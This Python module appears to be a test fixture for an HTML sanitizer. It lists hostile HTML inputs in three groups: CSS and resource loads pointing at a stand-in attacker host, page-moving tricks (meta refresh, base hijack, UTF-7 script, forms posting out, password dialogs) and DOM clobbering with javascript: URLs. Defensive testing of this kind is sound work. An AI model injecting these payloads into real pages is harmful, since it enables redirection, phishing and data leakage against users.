"""Style sheets, what moves the whole page, and names that clobber those of the document."""

from __future__ import annotations

from typing import Final

from .evil import EVIL

STYLES: Final = [
    f"<style>@import '{EVIL}a.css';</style><p>x</p>",
    f"<style>p{{background:url({EVIL}b)}}</style><p>x</p>",
    f"<style>@font-face{{font-family:a;src:url({EVIL}c)}}p{{font-family:a}}</style><p>x</p>",
    f"<p style='background-image:url({EVIL}d)'>x</p>",
    f"<p style='list-style:url({EVIL}e)'>x</p>",
    f"<p style=\"content:'x';cursor:url({EVIL}f),auto\">x</p>",
    "<p style='width:expression(pwn())'>x</p>",
    "<p style='-moz-binding:url(javascript:pwn())'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>over all</p>",
    f"<link rel=icon href='{EVIL}g'><link rel=preload as=image href='{EVIL}h'>",
    f"<link rel=dns-prefetch href='{EVIL}'><link rel=preconnect href='{EVIL}'>",
    f"<div background='{EVIL}i'>x</div><font face=\"x;background:url({EVIL}j)\">y</font>",
    f"<svg><filter><feImage href='{EVIL}k'/></filter><rect filter='url({EVIL}l#x)'/></svg>",
    f"<object type=text/html data='{EVIL}m'></object><embed src='{EVIL}n' type=text/html>",
]

MOVES: Final = [
    f"<meta http-equiv=refresh content='0; url={EVIL}a'>",
    f"<meta http-equiv='Refresh' content='0, {EVIL}b'>",
    f"<base href='{EVIL}'><a href=x>x</a><img src=/n>",
    "<base target=_top><a href=/x>x</a>",
    "<meta charset=utf-7><p>+ADw-script+AD4-pwn()+ADw-/script+AD4-</p>",
    f"<meta http-equiv=Content-Security-Policy content='script-src *; report-uri {EVIL}c'>",
    "<meta http-equiv=set-cookie content='a=b'><meta name=referrer content=unsafe-url>",
    f"<form action='{EVIL}d' method=post><input name=a><button>x</button></form>",
    f"<form id=x action='{EVIL}e'></form><input form=x><button form=x>x</button>",
    f"<dialog open><form action='{EVIL}f'><input type=password></form></dialog>",
    f"<a href='/x' ping='{EVIL}g' download=x.exe target=_blank rel=opener>x</a>",
    f"<iframe src='{EVIL}h' allow='camera *'></iframe>",
    f"<button popovertarget=p>x</button><div popover id=p><iframe src='{EVIL}i'></div>",
    f"<a href='intent:#Intent;scheme=x;S.browser_fallback_url={EVIL};end'>x</a>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}j"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"a":"{EVIL}k"}}}}</script>',
]

CLOBBERING: Final = [
    f"<{element}>x</{element.split()[0]}>"
    for element in (
        "p id=location",
        "p id=__proto__",
        "a id=document href=/x",
        "a id=cookie name=cookie href='javascript:pwn()'",
        "form id=body name=body",
        "form name=getElementById",
        "div id=defaultView",
        "p id=qp-main",
        "p id=qp-kr1",
        "p id=qp-removed",
    )
] + [
    "<img name=cookie id=forms src=/n><img name=currentScript src=/n>",
    "<form id=attributes><input name=attributes><input name=parentNode></form>",
    "<iframe name=self></iframe><object name=top></object><embed name=parent>",
    "<a id=config></a><a id=config name=url href='javascript:pwn()'>x</a>",
]
